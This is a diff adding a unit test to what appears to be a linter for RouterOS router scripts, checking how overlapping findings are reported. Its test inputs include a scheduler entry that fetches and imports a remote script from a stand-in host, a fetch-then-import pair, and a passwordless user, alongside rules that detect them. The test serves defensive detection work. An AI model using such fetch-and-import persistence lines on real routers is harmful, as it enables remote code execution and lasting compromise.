@@ -26,6 +26,29 @@ describe('the engine', () => {
     expect(outline(suppressed, check(suppressed).findings)).toEqual(['invalid-value error "modern"']);
   });
 
+  it('reports one cause once: by the rule that says more of it, unless that is off or suppressed', () => {
+    const entry = '/system scheduler add name=sync on-event={ /tool fetch url=http://h.example/x.rsc; /import x.rsc }';
+    const code = `/tool fetch url=http://h.example/y.rsc\n/import y.rsc\n${entry}`;
+    const spoken = (text: string, rules: Readonly<Record<string, RuleSetting>> = {}): string[] =>
+      outline(text, check(text, { rules }).findings).filter((line) =>
+        /^(?:fetch-then|scheduler|missing|user-e)/.test(line),
+      );
+    const own = 'fetch-then-import warning "/import y.rsc"';
+    expect(spoken(code)).toEqual([own, 'scheduler-persistence-pattern warning "name=sync"']);
+    expect(spoken(code, { 'scheduler-persistence-pattern': 'off' })).toEqual([
+      own,
+      'fetch-then-import warning "/import x.rsc"',
+    ]);
+    const suppressed = code.replace(
+      entry,
+      `# routeros-guard-disable-next-line scheduler-persistence-pattern\n${entry}`,
+    );
+    expect(spoken(suppressed)).toEqual([own, 'fetch-then-import warning "/import x.rsc"']);
+    const user = '/user add name=bob group=read';
+    expect(spoken(user)).toEqual([`user-empty-password warning "${user}"`]);
+    expect(spoken(user, { 'user-empty-password': 'off' })).toEqual(['missing-argument warning "add"']);
+  });
+
   it('offers what may have been meant, for a person to choose', () => {
     const [finding] = check('/ip service sett api disabled=yes').findings;
     expect(finding?.rule).toBe('unknown-command');
